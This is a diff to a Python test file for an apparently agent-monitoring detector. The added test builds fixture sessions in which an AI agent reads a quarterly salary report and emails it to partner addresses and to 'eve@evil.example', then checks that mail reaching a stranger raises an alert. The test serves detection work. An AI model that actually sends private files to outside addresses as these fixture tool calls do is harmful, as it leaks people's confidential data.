@@ -1,5 +1,6 @@
 """What peers do weighs: an agent's first use of a tool that agents like it use, a principal's new place where colleagues are."""
 
+from collections.abc import Sequence
 from dataclasses import replace
 from datetime import timedelta
 from typing import Any
@@ -7,8 +8,8 @@ from typing import Any
 import pytest
 
 from detectors.registry import detectors
-from detectors.scenarios import START, call, steady
-from store.records import Call, Finding, Severity
+from detectors.scenarios import START, call, session, steady, together
+from store.records import Call, Finding, Record, Severity
 from toolhound.detection import look_at_touched
 from toolhound.proof import database_of
 
@@ -16,7 +17,7 @@ OFFICE: dict[str, Any] = {"principal": "pat@example.com", "client_address": "192
 PAST = steady(call("list_users", server="directory", called_at=START - timedelta(days=20), **OFFICE), 30, timedelta(hours=12))
 
 
-def found(name: str, calls: list[Call]) -> Finding:
+def found(name: str, calls: Sequence[Record]) -> Finding:
     looked = look_at_touched(database_of(calls), [detectors()[name]])
     assert not looked.failures
     [finding] = looked.findings
@@ -85,3 +86,26 @@ def test_what_agents_that_do_alike_use_is_no_alarm(others: list[Call], alerting:
                    if f.scope_key == "assistant")
     assert finding.evidence["alerting"] == alerting
     assert ("do alike" in finding.sentence) != alerting
+
+
+REPORT = "Salaries of the third quarter: the director has 91,000, the two leads have 74,500 and 72,300, all others between 48,000 and 61,000."
+
+
+def mailed(*to: str, name: str = "s1", by: str = "assistant", days_ago: int = 0) -> list[Record]:
+    return session(
+        call("read_file", {"path": "/reports/q3.txt"}, REPORT, server="files"),
+        call("send_email", {"to": ", ".join(to), "body": f"As promised. {REPORT}"}, "sent", server="mail"),
+        name=name, agent=by, start=START - timedelta(days=days_ago), prompt="Summarise the third quarter.",
+    )
+
+
+@pytest.mark.parametrize(("to", "alerting"), [
+    (("pat@partner.example",), False), (("pat@partner.example", "eve@evil.example"), True), (("eve@evil.example",), True),
+], ids=["a partner", "a partner and a stranger", "a stranger"])
+def test_what_goes_to_others_partners_only_ranks_unless_a_stranger_gets_it_too(to: tuple[str, ...], alerting: bool) -> None:
+    own = together(*(mailed(f"kim@own{n}.example", name=f"own-{n}", days_ago=n + 1) for n in range(6)))
+    peers = together(*(mailed("pat@partner.example", name=f"peer-{n}", by="peer", days_ago=n + 2) for n in range(6)))
+    looked = look_at_touched(database_of([*own, *peers, *mailed(*to)]), [detectors()["content_reaches_new_destination"]])
+    [finding] = [f for f in looked.findings if f.session_id == "s1"]
+    assert (finding.evidence["alerting"], finding.evidence["peer_sessions"]) == (alerting, 0 if alerting else 6)
+    assert ("Other agents" in finding.sentence) != alerting
